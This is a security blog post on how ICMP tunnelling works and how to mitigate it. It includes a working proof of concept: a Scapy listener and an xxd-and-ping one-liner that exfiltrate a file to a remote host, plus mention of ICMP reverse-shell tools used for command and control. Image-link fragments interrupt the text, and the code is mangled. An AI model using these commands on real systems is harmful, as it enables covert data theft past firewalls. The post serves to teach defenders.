How does ICMP tunneling work and how can it be used for malicious purposes ?

by mrahier96

How does ICMP tunneling work and how can it be used for malicious purposes ?

by mrahier96

by mrahier96

The ping command is one of the first commands you learned when coming to the IT world. And yet, it is possible that it is still hiding secrets from you.

Through this blog post, I will demonstrate how attackers could use the protocol behind this command to bypass firewall rules leading to data exfiltration or communication with a command and control.

How does the Internet Control Message Protocol (ICMP) work ?

The ping command use the Internet Control Message Protocol (ICMP) which is a supporting protocol in the Internet protocol suite.

It is used by network devices, including routers, to send error messages and operational information indicating success or failure when communicating with another IP address for example. An error is indicated when a requested service is not available or if that a host could not be reached.

In fact, when you use the ping command, two types of control messages are used:

  • The type 0 which is an Echo Reply.
  • The type 8 which is an Echo RequestFrom the RFC792 which defines ICMP for IPv4, the fields for an echo or reply message are the following :

0 1 2 3
0 1 2 3 4 5 6 7 8 9 0 1 2 3 4 5 6 7 8 9 0 1 2 3 4 5 6 7 8 9 0 1
| Type | Code | Checksum |
| Identifier | Sequence Number |
| Data …

As an attacker, the data field is the one useful to communicate. In a usual case of pinging, the data received in the echo request message must be returned in the echo reply message. That’s how we know that a remote host is reachable.

An In-depth examination of the topic

Let’s see an example, below is a ping initiated from a Windows machine.

Example of a Ping initiated from a Windows machine.

Figure 1 – Ping initiated from Windows machine

The ping is successful and from the output, two values should be noticed :

  • The TTL (Time To Live) value which could be used to help you identify the kind of OS of the remote machine. For a TTL value <= 64, it’s usually a Unix based OS.
  • The bytes value which is the length of the data, in this case the data is 32 bytes long.

Analysing the same ping using Wireshark showed that each echo request from my Windows machine sends the alphabet by default. As expected, the same data is returned by the remote Linux machine.

Windows ping analysis

Figure 2 – Windows ping analysisHowever sending the alphabet is not mandatory. In fact, the ICMP protocol allows sending any data as we want.

To prove it, let’s initiate a ping from the Linux machine this time. By default the Windows host firewall deny the ICMP Echo Request IN so the according rule should be open.

Ping initiated from Linux machine

Figure 3 – Ping initiated from Linux machine

This time we can notice that the TTL value is <= 128. This indicates a reply from a Windows machine.

Analysing the ping showed the alphabet is not sent anymore and the data is longer than32 bytes.

Linux ping analysis

Figure 4 – Linux ping analysis

However, 48 bytes are still far from the maximum allowed. Indeed, because ICMP is built on top of the IP layer, in its version 4, the maximum size allowed by these packets is 65535 bytes. Removing the headers of IP (20 bytes at least) and ICMP (8 bytes), it is possible tohave 65507 bytes of ICMPdata.

But if we assume the maximum transmission unit is set to 1500 (which is the default forethernet), the maximum payload without fragmentation is limited to 1472 bytes (1500 – 20 -8). In case of fragmentation, the server should be able to handle multiple icmp requests and add their data together.

A Simple Proof of Concept (PoC)As shown in the previous experience, we can communicate different data with different lengths through ICMP request and reply. Knowing that, we could exfiltrate the content of a file or performed commands send by a command and control server using ICMP.However, to do this, we first need to disable ICMP replies from our attacker server by running the following command as root :

sysctl -w net.ipv4.icmp_echo_ignore_all=1

Otherwise, the client is unlikely to receive commands send from the server because automatic replies will send back the same data.

Once the command done, pinging from our Windows machine now print a request timed out because no data is returned.

Request timed out because no reply received

Figure 5 – Request timed out because no replyreceived

Analysing from the Linux machine showed the communication is one-way.

Analysing the one-way communication from Linux machine.

Figure 6 – ICMP automatic replies disabled

Let’s craft a simple Proof of Concept to exfiltrate a file content based on ICMP request. To do this, a very useful python library named Scapy was used.

Scapy is a powerful interactive packet manipulation program. It is able to forge or decode packets of a wide number of protocols, send them on the wire, capture them, match requests and replies, and much more.

On the server side, this simple script which should be run as root will just listen for ICMP on the wire. For each packet received, it will run the exfiltration function which parse and collect the last 4 bytes of the ICMP data using the load method.

from scapy.all import ICMP,sniffinterface = “eth0”
remote_host = “”def exfiltration(packet):
if packet.haslayer(ICMP):
if packet[ICMP].type == 8:
data = packet[ICMP].load[-4:]
print(data. Decode(‘utf-8’), flush=True, end=””)sniff(iface=interface, filter=”icmp and host “+remote_host, store=True, prn=exfiltration)

Client side, on a Linux machine, we could exfiltrate a file using this simple command :

xxd -p -c 4 test.txt | while read line; do ping -c 1 -p $line; done

Where test.txt is the file we want to exfiltrate. Notice this is very long because the data is sent 4 bytes by 4 bytes, the -p option of the default ping binary allow up to 16 bytes.

Otherwise we could also use Python and Scapy to send data more rapidly by crafting our ICMP packets.

Finally, if we were on a Windows machine,the native ping binary has no options to custom the icmp data. We could run a crafted exe but there is usually fewer restrictions regarding companies policies on PowerShell which allows to perform this customisation like in the tool Invoke-PowerShellIcmp.ps1.

Discover a Suite of Complete Tools to get an ICMP shell

The previous PoC is not optimised because it is a one-way communicationand all the data bytes available for the protocol were not used. This leads me to introduce a suite of complete tools which exploit fully the ICMP protocol in a form of a shell.

First, Icmpsh which is a simple reverse ICMP shell with a win32 slave and a POSIX compatible master in C, Perl or Python2. It does not require administrative privileges to run onto the target machine but an executable should be dropped on the machine, which can be hard to do in case of endpoint hardening for example. Furthermore, Invoke-PowerShellIcmp.ps1 is a client compatible with icmpsh and could be more easily dropped on the client machine.

Next, icmpdoor is a shell written with Python3 and Scapy, it comes with an executable to run it directly on Windows.

Below is an example of the above tool running. From the Linux C2 machine, I’m able to run command on the Windows target machine, through ICMP.

Connection to the C2 from the victim machine.

Figure 7 – Connect to the C2 from the victim machine


Example of ICMP tunnelling from the C2.

Figure 8 – Running commands through ICMP tunnelling from the C2

How to mitigate ?

You should now ask yourself how mitigate this. Well, there is a radical option which consists to block ICMP traffic and so ICMP tunnelling. But in practice, many companies don’t want to lose the ping functionality that is very useful in many situations for debugging purposes.

Another way to mitigate this type of attack is to only allow fixed sized ICMP packets through firewalls, which can impede this kind of behavior. But again, an attacker could craft ICMP packets with a length which look like legitimate (e.g 32 bytesof data).

The best answer, in my opinion, is to disable ICMP outgoing traffic and enable ICMP traffic inside only where it is necessary. Furthermore,defenders should monitor carefully on the wire for suspect behaviors such as ICMP request without defaultvalue as data.


If you like this article, discover other related articles addressing privilegedaccess management or cybersecurity articles on ExcelliumServices blog.

Author : Alexandre Guldner